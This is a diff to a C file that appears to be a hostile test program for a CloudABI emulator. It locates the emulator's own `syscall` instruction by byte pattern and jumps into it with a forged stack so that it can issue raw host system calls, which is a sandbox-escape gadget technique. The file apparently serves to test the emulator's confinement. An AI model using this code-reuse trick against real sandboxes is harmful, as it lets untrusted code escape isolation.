@@ -62,14 +62,14 @@ static i64 raw6(i64 nr, i64 a, i64 b, i64 c, i64 d, i64 e) {
 }
 
 /* The emulator's own `syscall` instruction: the one in its fast fd_write
- * (or fd_read) path, found as the int3 padding it is aligned with followed
- * by 0f 05. It is entered with the registers of the call wanted and a fake
- * stack whose every slot above the stack pointer holds `hostile_back`:
- * whatever the emulator's code after the instruction keeps on its frame,
- * the `ret` that ends its epilogue comes back here. (On success, the
- * optimised fast path stores the result through rbx, which points at
- * `hostile_result`; a refusal comes back as the CloudABI errno the path
- * makes of it.) */
+ * (or fd_read) path, found as 0f 05 followed by the `cmp rax, -EPIPE`
+ * that looks at its result (48 83 f8 e0). It is entered with the registers of the
+ * call wanted and a fake stack whose every slot above the stack pointer
+ * holds `hostile_back`, but the one at +24, where the fast path keeps the
+ * count pointer it stores the result through: that one points at
+ * `hostile_result`. So the indirect jump that ends the path comes back
+ * here; a success leaves its result in `hostile_result`, a refusal comes
+ * back as the CloudABI errno the path makes of it. */
 const u8 *hostile_gadget;
 u64 hostile_saved_rsp;
 i64 hostile_result;
@@ -85,7 +85,6 @@ __asm__(
     "mov %rdi, %rax\n mov %rsi, %rdi\n mov %rdx, %rsi\n mov %rcx, %rdx\n"
     "mov %r8, %r10\n mov %r9, %r8\n"
     "lea hostile_stack+16384(%rip), %rsp\n"
-    "lea hostile_result(%rip), %rbx\n"
     "jmp *hostile_gadget(%rip)\n"
     ".globl hostile_back\n"
     "hostile_back:\n"
@@ -98,8 +97,9 @@ static int find_gadget(void) {
     for (int k = 0; k < 2; k++) {
         const u8 *p = starts[k];
         for (int i = -8192; i < 8192; i++)
-            if (p[i] == 0xcc && p[i + 1] == 0xcc && p[i + 2] == 0x0f && p[i + 3] == 0x05) {
-                hostile_gadget = p + i + 2;
+            if (p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0x48 && p[i + 3] == 0x83 &&
+                p[i + 4] == 0xf8 && p[i + 5] == 0xe0) {
+                hostile_gadget = p + i;
                 return 1;
             }
     }
@@ -108,6 +108,7 @@ static int find_gadget(void) {
 
 static i64 via_gadget(i64 nr, i64 a, i64 b, i64 c, i64 d, i64 e) {
     for (int i = 2048; i < 4096; i++) hostile_stack[i] = (u64)hostile_back;
+    hostile_stack[2048 + 3] = (u64)&hostile_result;
     hostile_result = -1;
     u64 r = hostile_enter(nr, a, b, c, d, e) & 0xffff;
     return r == 0 ? hostile_result : -(i64)1000 - (i64)r;
